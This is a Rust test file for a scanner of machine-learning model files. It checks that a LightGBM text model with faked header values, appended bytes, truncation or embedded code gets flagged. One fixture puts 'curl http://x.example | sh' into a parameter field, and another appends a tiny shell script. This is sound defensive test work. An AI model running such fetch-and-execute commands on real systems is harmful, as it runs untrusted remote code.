use stance_core::fact::{AnomalyKind, Artifact};

use crate::testing::{artifact, has_artifact, report, survives_truncation};

const MODEL: &str = "tree
version=v4
num_class=1
num_tree_per_iteration=1
label_index=0
max_feature_idx=1
objective=binary sigmoid:1
feature_names=age income
feature_infos=[0:1] [0:9]
tree_sizes=200

Tree=0
num_leaves=3
num_cat=0
split_feature=0 1
split_gain=1 2
threshold=0.5 1.5
decision_type=2 2
left_child=1 -1
right_child=-2 -3
leaf_value=0.1 -0.2 0.3
leaf_weight=1 1 1
leaf_count=1 1 1
internal_value=0 0
is_linear=0
shrinkage=0.1


end of trees

feature_importances:
age=1
income=1

parameters:
[boosting: gbdt]
[objective: binary]
[data: /home/me/train.csv]
[machine_list_filename: ]
[output_model: LightGBM_model.txt]
end of parameters

pandas_categorical:[[\"a\", \"b\"]]
";

fn kinds(found: &Artifact) -> Vec<AnomalyKind> {
    found.anomalies.iter().map(|anomaly| anomaly.kind).collect()
}

#[test]
fn trees_features_and_parameters_are_told() {
    let found = artifact("model.txt", MODEL.as_bytes());
    assert_eq!(found.framework.as_deref(), Some("lightgbm"));
    assert_eq!(found.architecture.as_deref(), Some("binary sigmoid:1"));
    assert_eq!(
        (&*found.metadata["trees"], found.parameters),
        ("1", Some(3))
    );
    assert_eq!(found.metadata["data"], "/home/me/train.csv");
    assert_eq!((found.anomalies, found.embedded), (vec![], vec![]));
    assert!(!has_artifact(&report("notes.txt", b"tree\nbranch\n")));
}

#[test]
fn numbers_that_cannot_be_are_lies() {
    for (from, to) in [
        ("num_leaves=3", "num_leaves=2147483647"),
        ("num_leaves=3", "num_leaves=-1"),
        ("left_child=1 -1", "left_child=7 -1"),
        ("right_child=-2 -3", "right_child=-2 -90"),
        ("split_feature=0 1", "split_feature=0 100000"),
        ("threshold=0.5 1.5", "threshold=0.5"),
        ("tree_sizes=200", "tree_sizes=99999999999"),
        ("tree_sizes=200", "tree_sizes=200 200"),
        ("tree_sizes=200", "tree_sizes=x"),
        ("max_feature_idx=1", "max_feature_idx=-5"),
        ("feature_names=age income", "feature_names=age"),
    ] {
        let found = artifact("m.txt", MODEL.replace(from, to).as_bytes());
        assert_eq!(kinds(&found), [AnomalyKind::LyingHeader], "{to}");
    }
}

#[test]
fn code_and_tails_are_told() {
    let code = "curl http://x.example | sh";
    let found = artifact(
        "m.txt",
        MODEL.replace("LightGBM_model.txt", code).as_bytes(),
    );
    assert_eq!(
        (&*found.embedded[0].name, &*found.embedded[0].detail),
        ("output_model", code)
    );
    for tail in [
        &b"\x80\x04\x95\x10\0\0\0\0\0\0\0}\x94."[..],
        b"#!/bin/sh\nid\n",
    ] {
        let bytes = [MODEL.as_bytes(), tail].concat();
        assert_eq!(
            kinds(&artifact("m.txt", &bytes)),
            [AnomalyKind::UnclaimedBytes]
        );
    }
    let cut = &MODEL.as_bytes()[..400];
    assert_eq!(kinds(&artifact("m.txt", cut)), [AnomalyKind::Truncated]);
}

#[test]
fn no_cut_makes_it_panic() {
    survives_truncation("m.txt", &MODEL.as_bytes()[..500]);
}
